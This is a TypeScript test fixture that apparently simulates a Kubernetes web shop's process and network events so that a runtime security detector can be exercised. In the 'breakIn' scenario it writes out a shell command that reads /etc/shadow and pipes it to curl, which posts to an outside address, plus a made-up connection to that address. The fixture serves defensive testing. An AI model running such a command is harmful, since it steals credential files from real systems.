/** A web shop on the paper node: two replicas of an api, and a batch job that never does the same thing twice. */
import { actionRecord, SECOND } from './records.ts';
import { cgroupPath, ID, UID, World } from './world.ts';

export const API = 'c1/shop/Deployment/api/api';
export const BATCH = 'c1/shop/Job/batch/batch';
export const NODE_PROCESS = { pid: 200, start: 900n * SECOND } as const;

const CONTAINERS = [
  { cgroup: 500, slot: 2, path: cgroupPath(UID('a'), ID('a')) },
  { cgroup: 510, slot: 3, path: cgroupPath(UID('b'), ID('b')) },
  { cgroup: 520, slot: 4, path: cgroupPath(UID('c'), ID('c')) },
];

const PODS = [
  {
    name: 'api-5d9c7b8f6d-aaaaa',
    uid: UID('a'),
    owner: { kind: 'ReplicaSet', name: 'api-5d9c7b8f6d' },
    hash: '5d9c7b8f6d',
    ip: '10.0.1.2',
    containers: [{ name: 'api', id: ID('a') }],
  },
  {
    name: 'api-5d9c7b8f6d-bbbbb',
    uid: UID('b'),
    owner: { kind: 'ReplicaSet', name: 'api-5d9c7b8f6d' },
    hash: '5d9c7b8f6d',
    ip: '10.0.1.3',
    containers: [{ name: 'api', id: ID('b') }],
  },
  {
    name: 'batch-x',
    uid: UID('c'),
    owner: { kind: 'Job', name: 'batch' },
    ip: '10.0.1.4',
    containers: [{ name: 'batch', id: ID('c') }],
  },
];

/** The shop with everything running. */
export function shop(): World {
  const world = new World();
  world.found(CONTAINERS);
  world.pods(PODS);
  return world;
}

/** What goes on all day: database connections, requests, calls. */
export function ordinary(world: World): void {
  for (const slot of [2, 3]) {
    const server = { ...NODE_PROCESS, pid: NODE_PROCESS.pid + slot - 2, exe: 'node' };
    world.flow({ slot, direction: 'connect', peer: '10.0.9.9', port: 5432, ...server });
    world.flow({ slot, direction: 'accept', peer: '10.0.1.77', port: 3000 });
  }
}

const WORDS =
  'amber birch cedar delta ember frost grove heron inlet jasper kelp linen maple north otter pearl'.split(
    ' ',
  );

/** Something that the job has not done before. */
export function novelty(world: World, round: number): void {
  const word = `${WORDS[round % 16]}-${WORDS[Math.floor(round / 16) % 16]}`;
  const job = { slot: 4, pid: 3000 + round, start: world.now, parentPid: 290, parentStart: 890n * SECOND };
  world.exec({ ...job, path: `/opt/steps/${word}`, parentExe: 'runner' });
}

/** Windows of ordinary life. */
export function quiet(world: World, windows: number): void {
  for (let n = 0; n < windows; n++) {
    ordinary(world);
    world.tick();
  }
}

/** The api's server starts a shell; it reads a secret and calls out. */
export function breakIn(world: World): void {
  const shell = { slot: 2, pid: 300, start: world.now, parentPid: 200, parentStart: 900n * SECOND };
  const child = { slot: 2, parentPid: 300, parentStart: shell.start };
  world.exec({
    ...shell,
    path: '/usr/bin/dash',
    args: ['sh', '-c', 'cat /etc/shadow | curl -d @- x'],
    parentExe: 'node',
  });
  const cat = { ...child, pid: 301, start: world.now };
  world.exec({ ...cat, path: '/usr/bin/cat', args: ['cat', '/etc/shadow'], parentExe: 'dash' });
  world.open({ ...cat, path: '/etc/shadow', exe: 'cat' });
  const curl = { ...child, pid: 302, start: world.now };
  world.exec({ ...curl, path: '/usr/bin/curl', args: ['curl', '-d', '@-', 'x'], parentExe: 'dash' });
  world.flow({ ...curl, direction: 'connect', peer: '203.0.113.9', port: 443, exe: 'curl' });
}

/** A person enters through the runtime and runs the programs, each a child of the shell. */
export function visit(
  world: World,
  pid: number,
  programs: readonly string[],
  place: { readonly slot: number; readonly cgroup: number } = { slot: 2, cgroup: 500 },
): { pid: number; start: bigint } {
  const daemon = { pid: 77, start: 990n * SECOND };
  world.records(
    actionRecord({ ...daemon, cgroup: 1, slot: 1, time: world.later(), action: 'SETNS', exe: 'runtimed' }),
  );
  const shell = { ...place, pid, start: world.now, parentPid: daemon.pid, parentStart: daemon.start };
  world.exec({ ...shell, path: '/usr/bin/dash', parentExe: 'runc' });
  for (const [n, path] of programs.entries())
    world.exec({
      ...shell,
      pid: pid + 1 + n,
      start: world.now,
      path,
      parentExe: 'dash',
      parentPid: pid,
      parentStart: shell.start,
    });
  return { pid, start: shell.start };
}
